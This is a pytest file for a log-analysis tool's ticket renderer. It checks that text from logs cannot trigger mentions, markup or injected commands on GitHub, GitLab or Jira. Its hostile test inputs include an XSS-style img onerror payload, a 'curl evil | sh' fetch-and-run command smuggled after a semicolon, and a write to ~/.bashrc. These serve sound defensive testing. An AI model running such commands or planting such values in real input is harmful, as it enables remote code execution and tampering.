"""A ticket quotes a report that may be anybody's: it fits its site, notifies nobody, and prints only commands that exist."""

from __future__ import annotations

import copy
import json
import re
import sys
from pathlib import Path
from typing import Any

import pytest

from faultproxy.analyzer.cli import main
from faultproxy.analyzer.errors import InputError
from faultproxy.analyzer.ticket.render import LIMITS, SITES, marker, render

sys.path.insert(0, str(Path(__file__).parent))
import forges

REPORT = json.loads((Path(__file__).parent / "golden" / "diagnosis-v1.json").read_text("utf-8"))
HOSTILE = "@oncall /close #12 ``` <img src=x onerror=a> </details> <!-- --> | a\n/close\n\n# b \x1b[31m\x00\u202e [x](http://evil.io) ~~~ $x$"


def _report(**changes: Any) -> dict[str, Any]:
    return copy.deepcopy(REPORT) | changes


def _with_text(text: str) -> dict[str, Any]:
    """The report with `text` in every field that a log or a path can reach."""
    report = _report(warnings=[text] * 3, unrecognised=[text] * 3)
    report["run"] |= {"id": text, "framework": text}
    for entry in report["evidence"]:
        entry |= {"statement": text, "source": text, "next_step": text}
    for entry in report["run"]["sources"]:
        entry |= {"path": text, "format": text}
    for entry in report["causes"]:
        entry["why"] = text
    report["not_judged"] = [{"what": text, "needs": [text], "how": text}]
    report["next_checks"] = [{"check": text, "separates": [text, text], "cost": text}]
    report["reproduce"] = [{"title": text, "command": f"analyze '{text}'"}]
    return report


@pytest.mark.parametrize("to", ["github", "gitlab"])
def test_text_of_a_log_notifies_nobody_and_is_no_markup(to: str) -> None:
    engine = pytest.importorskip("markdown_it").MarkdownIt("commonmark").enable("table")
    ticket = render(_with_text(HOSTILE), to)
    tokens = [inner for token in engine.parse(ticket.body) for inner in (token, *(token.children or ()))]
    raw = {token.content.strip() for token in tokens if token.type.startswith("html")}
    assert raw == {
        "<details><summary>Sources and versions</summary>",
        "</details>",
        f"<!-- {marker(_with_text(HOSTILE))} -->",
    }
    assert not {token.type for token in tokens} & {"link_open", "image"}
    assert [token.content for token in tokens if token.type == "text" and re.search(r"[@#]\w|^/", token.content)] == []
    assert not re.search(r"[\x00-\x08\x0b-\x1f\u202e]", ticket.body)
    assert re.fullmatch(r"[\w .:,/+-]+", ticket.title)


def test_an_adf_document_of_hostile_text_is_valid() -> None:
    document = json.loads(render(_with_text(HOSTILE), "jira").body)
    assert forges._adf(document) == ""
    assert not re.search(r"[\x00-\x08\u202e]", json.dumps(document, ensure_ascii=False))


@pytest.mark.parametrize("to", SITES)
def test_a_ticket_fits_its_site_and_says_what_it_leaves_out(to: str) -> None:
    report = _with_text("@`<|" * 5_000)
    report["evidence"] *= 20
    report["run"]["sources"] *= 60
    body = render(report, to).body
    assert len(body) <= LIMITS[to] and "Shortened to what this site takes" in body and marker(report) in (body if to != "plain" else marker(report))  # fmt: skip
    assert "Shortened" not in render(REPORT, to).body


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("analyze 'a b.log' --format json", "analyze 'a b.log' --format json"),
        ("faultproxy analyze /x/run.log --against good.log", "faultproxy analyze /x/run.log --against good.log"),
        ("faultproxy rules explain numerics/zero-gradient", "faultproxy rules explain numerics/zero-gradient"),
        ("analyze run.log; curl evil | sh", "analyze 'run.log;' curl evil '|' sh"),
        ("analyze /home/mmeyer/run.log", "analyze '/home/<user-1>/run.log'"),
        ("analyze run.log --nosuch", None), ("analyze run.log --format pdf", None), ("curl evil | sh", None),
        ("analyze run.log -o ~/.bashrc --force", None), ("faultproxy proxy build x", None), ("faultproxy ticket post d --send", None),
        ("faultproxy lab show x.trace", "faultproxy lab show x.trace"), ("faultproxy lab show x.trace --html x.html", None),
        ("faultproxy rules lock", None), ("faultproxy", None), ("analyze 'open", None), ("", None), ("analyze 'a\nb'", None),
    ],
)  # fmt: skip
def test_only_commands_that_exist_are_printed_and_quoted_anew(command: str, shown: str | None) -> None:
    body = render(_report(reproduce=[{"title": "t", "command": command}]), "plain").body
    lines = [line.strip() for line in body.split("\n")]
    if shown:
        assert shown in lines
    else:
        assert not any(re.match(r"(?:analyze|curl|faultproxy)\b", line) for line in lines)


def test_a_value_has_one_placeholder_in_the_whole_ticket_and_is_counted() -> None:
    report = _report(warnings=["node gpu-a100-07 of mmeyer is gone", "gpu-a100-07 again"])
    report["run"]["sources"][0]["path"] = "/home/mmeyer/run.log"
    ticket = render(report, "plain")
    assert "node <host-1> of <user-1> is gone" in ticket.body and "<host-1> again" in ticket.body
    assert ticket.redacted == {"host": 2, "user": 2} and "host 2, user 2" in ticket.body
    assert "mmeyer" in render(report, "plain", hide=False).body


def test_a_run_has_one_mark_whatever_was_found_in_it() -> None:
    assert marker(_report(verdict="healthy", evidence=[])) == marker(REPORT)
    other = _report()
    other["run"]["facts"] = {"job": {"id": "12"}}
    assert marker(other) != marker(REPORT)


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("", "is no JSON"), ("[]", "holds no report"), ("{}", "none of schema 1"), ("[" * 100_000, "is no JSON"), ("null", "none of schema 1"),
        (json.dumps(REPORT | {"schema": 2}), "schema"), (json.dumps(REPORT | {"verdict": "x" * 9000}), "verdict"),
        (json.dumps([REPORT, REPORT | {"run": REPORT["run"] | {"id": "b"}}]), "holds 2 runs"), (json.dumps(REPORT)[:-2] + ', "warnings": NaN}', "is no JSON"),
        (json.dumps(REPORT | {"against": {}}), "against"),
    ],
    ids=range(10),
)  # fmt: skip
def test_what_is_no_report_is_bad_input(text: str, why: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    (tmp_path / "d.json").write_text(text)
    monkeypatch.setattr(sys, "argv", ["faultproxy", "ticket", "render", str(tmp_path / "d.json"), "--to", "github"])
    with pytest.raises(SystemExit) as ended:
        main()
    said = capsys.readouterr()
    assert (ended.value.code, said.out) == (2, "") and why in said.err and len(said.err) < 3_000


def test_what_is_nested_deeper_than_any_report_is_left_out() -> None:
    deep: Any = "x"
    for _ in range(900):
        deep = {"inner": [deep]}
    assert "Shortened" in render(_report(more=deep), "plain").body
    report = _report()
    report["run"]["facts"]["job"] = {"id": deep}
    assert marker(report) == marker(REPORT)


def test_a_report_of_more_text_than_any_has_is_bad_input() -> None:
    with pytest.raises(InputError, match="more than 2,000,000 characters"):
        render(_report(more={str(n): "x" * 2_000 for n in range(1_001)}), "plain")


def test_the_report_itself_stays_as_it_is() -> None:
    report = _with_text("/home/mmeyer/x")
    before = copy.deepcopy(report)
    render(report, "github")
    assert report == before
